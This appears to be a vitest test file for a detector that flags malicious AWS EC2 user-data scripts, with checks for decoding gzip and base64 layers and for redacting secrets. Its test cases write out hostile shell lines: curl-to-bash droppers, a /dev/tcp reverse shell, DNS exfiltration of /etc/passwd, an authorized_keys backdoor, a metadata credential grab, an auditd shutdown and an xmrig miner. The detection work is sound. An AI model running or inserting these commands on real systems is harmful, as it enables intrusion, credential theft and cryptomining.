import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { minerUserData } from '../../../../demo/aws/stories/s3.ts';
import { readUserData } from '../../../../src/domain/dossier/user-data.ts';

const encode = (text: string) => Buffer.from(text).toString('base64');
const kinds = (base64: string) => [...new Set(readUserData(base64).signs.map(({ kind }) => kind))];

describe('user data', () => {
  it("shows S3's miners, its cron job and the rerun at every start", () => {
    expect(kinds(encode(minerUserData))).toEqual(['miner', 'persistence']);
  });

  it.each([
    ['curl -s http://192.0.2.1/x.sh | bash', 'dropper'],
    ['wget -O /tmp/a http://x.example/a && chmod 777 /tmp/a', 'dropper'],
    ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'dropper'],
    ['dig $(cat /etc/passwd | base64).evil.example', 'exfiltration'],
    ['nslookup QmFzZTY0TGFiZWxXaXRoMTIzNDU2Nzg5.x.afsdem.com', 'exfiltration'],
    ['echo ssh-rsa AAAA >> /home/ec2-user/.ssh/authorized_keys', 'persistence'],
    ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'credentials'],
    ['systemctl stop auditd', 'evasion'],
    ['./xmrig -o stratum+tcp://pool.example:3333', 'miner'],
  ])('%s is %s', (script, kind) => {
    expect(kinds(encode(`#!/bin/sh\n${script}\n`))).toContain(kind);
  });

  it('is unpacked from gzip and from base64 inside it', () => {
    const inner = encode('#!/bin/sh\ncurl -s http://192.0.2.1/miner.sh | bash\n# padding so that the run is long\n');
    const packed = gzipSync(`#!/bin/sh\necho ${inner} | base64 -d | sh\n`).toString('base64');

    expect(readUserData(packed)).toMatchObject({ layers: ['gzip', 'base64 in line 2'] });
    expect(kinds(packed)).toEqual(expect.arrayContaining(['encoded', 'dropper']));
  });

  it('is read through base64 that is broken into lines', () => {
    const inner = encode('#!/bin/sh\ncurl -s http://192.0.2.1/miner.sh | bash\n'.repeat(4))
      .match(/.{1,76}/g)
      ?.join('\n');

    expect(readUserData(encode(`#!/bin/sh\ncat <<E | base64 -d | sh\n${inner}\nE\n`)).layers).toEqual([
      'base64 in line 3',
    ]);
  });

  it('of an ordinary start shows nothing', () => {
    const ordinary =
      '#cloud-config\npackage_update: true\npackages:\n - nginx\nruncmd:\n - [systemctl, start, nginx]\n - aws s3 cp s3://my-very-long-deployment-bucket-name-for-the-shop.s3.amazonaws.com/app.tgz .\n';

    expect(readUserData(encode(ordinary)).signs).toEqual([]);
  });

  it('keeps keys and passwords out of what it shows', () => {
    const script =
      'curl -H "token: abcdefghijklmnop" http://x.example/AKIAIOSFODNN7EXAMPLE/p.sh?password=hunter2secret | sh';

    const shown = JSON.stringify(readUserData(encode(script)).signs);

    expect(shown).not.toMatch(/AKIAIOSFODNN7EXAMPLE|hunter2secret/);
  });

  it('survives any bytes, a bomb among them, in little time', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2_000 }), (bytes) => {
        readUserData(Buffer.from(bytes).toString('base64'));
      }),
    );
    expect(readUserData(gzipSync(Buffer.alloc(20_000_000)).toString('base64'))).toMatchObject({
      cut: true,
      layers: ['gzip that cannot be opened'],
    });
    const began = performance.now();
    readUserData(encode(`curl ${'a'.repeat(200)} `.repeat(2_000)));
    readUserData(encode('A1'.repeat(100_000)));
    expect(performance.now() - began).toBeLessThan(3_000);
  });
});
